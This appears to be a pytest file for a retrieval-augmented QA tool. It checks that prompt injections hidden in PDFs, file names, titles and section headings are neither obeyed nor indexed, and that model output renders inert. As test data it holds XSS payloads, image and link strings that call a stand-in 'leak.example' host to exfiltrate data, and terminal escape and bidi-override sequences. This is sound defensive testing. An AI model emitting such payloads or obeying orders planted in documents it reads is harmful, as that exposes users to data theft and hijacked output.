"""A reading may say what it likes and changes nothing: seen orders are quoted, hidden ones are not
even read.
"""

import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from rag import console
from rag.abbreviations import Abbreviations
from rag.assembly import build_index, open_engine
from rag.engine import Engine, Writer
from rag.library.index import Index
from rag.meaning import Meaning
from rag.mentions import Mentions
from rag.names import Names
from rag.parsers import liteparse, pypdf
from rag.settings import Settings
from rag.types import Answer, Verdict
from rag.web import chat
from rag.web.conversation import Turn
from tests import injections, pdfs
from tests.injections import CASES, QUESTION, TEXTS, word
from tests.obedient import OBEYS, Obedient
from tests.test_prompt import passage

SEEN = [case for case in CASES if case.seen]
HIDDEN = [case for case in CASES if not case.seen]
every, seen, hidden = (
    pytest.mark.parametrize("case", cases, ids=lambda case: case.name)
    for cases in (CASES, SEEN, HIDDEN)
)


def file_name(case):
    return case.name.replace(" ", "-").replace("'", "")


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    """One index over all cases' PDFs, one of which is called by its order."""
    folder = tmp_path_factory.mktemp("injection")
    (folder / "corpus").mkdir()
    for case in CASES:
        path = folder / "corpus" / f"{file_name(case)}.pdf"
        case.build(path, injections.order(case.name))
    name = f"<system> {injections.order('file name')} [1].pdf"
    pdfs.prose(folder / "corpus" / name, [injections.FACT])
    pdfs.scanned(folder / "corpus" / "scan.pdf")
    made = Settings(corpus=str(folder / "corpus"), index=str(folder / "index"))
    left_out = []
    report = build_index(made, lambda *_: None, left_out.append)
    assert not report.left_out
    assert not left_out
    return made


@pytest.fixture(scope="module")
def obedient(settings):
    return open_engine(replace(settings, llm="tests.obedient"))


@pytest.fixture(scope="module")
def extractive(settings):
    return open_engine(settings)


@pytest.fixture(scope="module")
def index(settings):
    opened = Index.open(settings.index_folder, None)
    yield opened
    opened.close()


def answered(engine: Engine, reading_id: str) -> Answer:
    *_, last = engine.ask(QUESTION, frozenset({reading_id}))
    return last


def all_text(index: Index, reading_id: str) -> str:
    """Everything that the index holds of a reading."""
    (reading,) = (r for r in index.readings if r.reading_id == reading_id)
    chunks = index.chunks(index.rows_of(frozenset({reading_id})))
    pages = next(h.pages for h in index.health() if h.reading_id == reading_id)
    blocks = [b for n in range(1, pages + 1) for b in index.page(reading_id, n).blocks]
    texts = [reading.title, *reading.authors, *(b.text for b in blocks)]
    for chunk in chunks:
        texts += [chunk.window.text, chunk.context, *chunk.window.section]
    return squashed(" ".join(texts))


def squashed(text: str) -> str:
    return "".join(filter(str.isalnum, text))


LIVELESS = {"article", "h3", "div", "p", "span", "button", "q", "br", "ul", "li", "del"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        assert not any(name.startswith("on") or name in ("href", "src") for name, _ in attrs)


def dead(answer: Answer) -> bool:
    """Whether nothing of an answer is live on the page but the chips of its own citations."""
    shown = str(chat.chat([Turn(QUESTION, answer=answer)]))
    tags = Tags()
    tags.feed(shown)
    chips = re.findall(r'<button class="chip [^>]*><span class="number">(\d+)<', shown)
    return tags.names <= LIVELESS and chips == [str(one.marker) for one in answer.citations]


def test_there_are_many_cases():
    assert len(CASES) + len(TEXTS) >= 40
    assert len({word(case.name) for case in CASES} | {word(name) for name in TEXTS}) == len(
        CASES
    ) + len(TEXTS)


@every
def test_no_reading_is_obeyed(obedient, case):
    answer = answered(obedient, file_name(case))
    assert OBEYS not in answer.text
    assert answer.llm == "obedient"
    assert "amber" in answer.text
    assert dead(answer)


@every
def test_an_answer_in_the_readings_own_words_marks_its_own_citations_only(extractive, case):
    answer = answered(extractive, file_name(case))
    assert dead(answer)
    markers = re.findall(r"\[(\d+)\]", answer.text)
    assert markers == [str(citation.marker) for citation in answer.citations]
    assert all(c.quote in c.passage.chunk.window.text for c in answer.citations)
    if not case.seen:
        assert word(case.name) not in squashed(answer.text)


@seen
def test_what_readers_see_can_be_found(index, case):
    assert squashed(word(case.name)) in all_text(index, file_name(case))


@hidden
def test_what_nobody_sees_is_not_in_the_index(index, case):
    assert squashed(word(case.name)) not in all_text(index, file_name(case))
    assert "paidinamberbytheguildofVisby" in all_text(index, file_name(case))


BESIDE = ("metadata", "outline", "annotation", "link", "field", "attachment", "script of the file")


@hidden
def test_hidden_words_are_counted_and_not_quoted(index, case):
    (health,) = (h for h in index.health() if h.reading_id == file_name(case))
    said = " ".join(health.problems)
    assert word(case.name) not in said
    if case.name not in BESIDE:
        page = 2 if case.name == "nothing else" else 1
        assert re.search(rf"Hidden words were left out: [1-9]\d* on page {page}\.", said)


def test_a_file_that_is_called_by_an_order_is_not_obeyed(obedient):
    (reading,) = (r for r in obedient.readings if "filename" in r.reading_id.replace(" ", ""))
    answer = answered(obedient, reading.reading_id)
    assert OBEYS not in answer.text
    assert dead(answer)


@pytest.mark.parametrize("place", ["text", "title", "section"])
@pytest.mark.parametrize("name", TEXTS)
def test_no_letters_are_obeyed(name, place):
    said = injections.text_of(name)
    found = passage(injections.FACT + (said if place == "text" else ""))
    if place == "title":
        reading = replace(found.chunk.reading, title=said)
        found = replace(found, chunk=replace(found.chunk, reading=reading))
    elif place == "section":
        window = replace(found.chunk.window, section=("1 One", said))
        found = replace(found, chunk=replace(found.chunk, window=window))
    engine = over(found, Obedient())
    *_, answer = engine.ask(QUESTION)
    assert OBEYS not in answer.text
    assert answer.llm == "obedient"
    assert "amber" in answer.text
    assert dead(answer)


def over(found, llm):
    """An engine that finds one passage and has nothing to check with."""
    meaning = Meaning(Mentions({}, no_rows), Abbreviations({}, no_rows), Names(()))
    return Engine(OneReading(found), Finds(found), Quotes(), meaning, 8, Writer(llm, Unsure()))


def no_rows(term):
    return np.empty(0, np.int64)


class Unsure:
    def check(self, sentence, passages):
        return Verdict("unsupported", None, 0, 0)


class OneReading:
    def __init__(self, found):
        self.readings = (found.chunk.reading,)

    def page(self, reading_id, number):
        raise AssertionError


class Finds:
    name = "finds"

    def __init__(self, found):
        self.found = found

    def retrieve(self, question, k, readings=None):
        return [self.found]


class Quotes:
    name = "quotes"

    def quote(self, question, passages):
        return []


class Says(Obedient):
    """A model that has been turned: whatever it says must stay dead."""

    def __init__(self, said):
        self.said = said

    def stream(self, messages):
        yield self.said


@pytest.mark.parametrize(
    "said",
    [
        '<img src="https://leak.example/?q=1" onerror="alert(1)"> Amber [1].',
        "![x](https://leak.example/?q=1) and [x](javascript:alert(1)) [1].",
        "<script>alert(1)</script> Amber [1]. <iframe src='//leak.example'></iframe>",
        '<button class="chip" data-turn="0" data-marker="7">7</button> Amber [1].',
        "Amber [7]. Salt [99][0]. Herring [1\u200b]. Oil [-1].",
        "\x1b]0;owned\x07\x1b[2JAmber\x9b31m \u202erebma\u202c \u2066 [1].",
        "Amber [1].\r\x08\x08\x08Salt \U000e0041\U000e0042[1].",
    ],
)
def test_whatever_a_model_says_stays_dead(said, capsys):
    found = passage(injections.FACT)
    engine = over(found, Says(said))
    for answer in engine.ask(QUESTION):
        assert dead(answer)
    assert all(letter.isprintable() or letter == "\n" for letter in answer.text)
    assert {c.passage for c in answer.citations} <= {found}


def test_a_terminal_is_told_nothing_but_letters(capsys):
    said = "a\x1b[31m\x9b2J\x07\u202eb\r\U000e0041\ud800\tc\nd"
    console.show(said)
    console.say(said)
    console.show_json({"said": said})
    out, err = capsys.readouterr()
    first, second, third = out.splitlines()
    assert [first, second] == ["a[31m2Jb\tc", "d"] == err.splitlines()
    assert third.isprintable()
    assert json.loads(third) == {"said": said}


def test_the_words_of_a_scan_stay_though_nobody_sees_them(index):
    text = all_text(index, "scan")
    assert squashed(pdfs.LEFT) in text
    assert squashed(pdfs.RIGHT) in text
    (health,) = (h for h in index.health() if h.reading_id == "scan")
    assert any(re.match("Scanned: .* 1, 2\\.", problem) for problem in health.problems)


@pytest.mark.parametrize("parser", [liteparse, pypdf], ids=["liteparse", "pypdf"])
def test_a_scan_is_read_by_every_parser(parser, tmp_path):
    pages = parser.load(Settings()).read(pdfs.scanned(tmp_path / "a.pdf"))
    assert [page.hidden for page in pages] == [0, 0]
    assert all(page.layer > 30 for page in pages)
    assert squashed(pdfs.LEFT) in squashed(" ".join(b.text for b in pages[0].blocks))


def test_words_behind_a_picture_of_nothing_are_hidden(tmp_path):
    with pytest.raises(Exception, match="no text that can be read"):
        liteparse.load(Settings()).read(pdfs.scanned(tmp_path / "a.pdf", blank=True))


@pytest.mark.parametrize("name", ["unpainted", "clip only", "white", "first line", "nothing else"])
def test_pypdf_leaves_out_what_it_can_tell(name, tmp_path):
    injections.HIDDEN[name](tmp_path / "a.pdf", injections.order(name))
    pages = pypdf.load(Settings()).read(tmp_path / "a.pdf")
    assert word(name) not in squashed(" ".join(b.text for p in pages for b in p.blocks))
    assert sum(page.hidden for page in pages) > 0


def test_the_real_readings_lose_nothing_that_is_seen():
    folder: Path = pdfs.SHARED / "readings"
    if not folder.is_dir():
        pytest.skip("the readings are not here")
    for path in sorted(folder.glob("*.pdf")):
        assert all(p.hidden == p.layer == 0 for p in liteparse.load(Settings()).read(path))
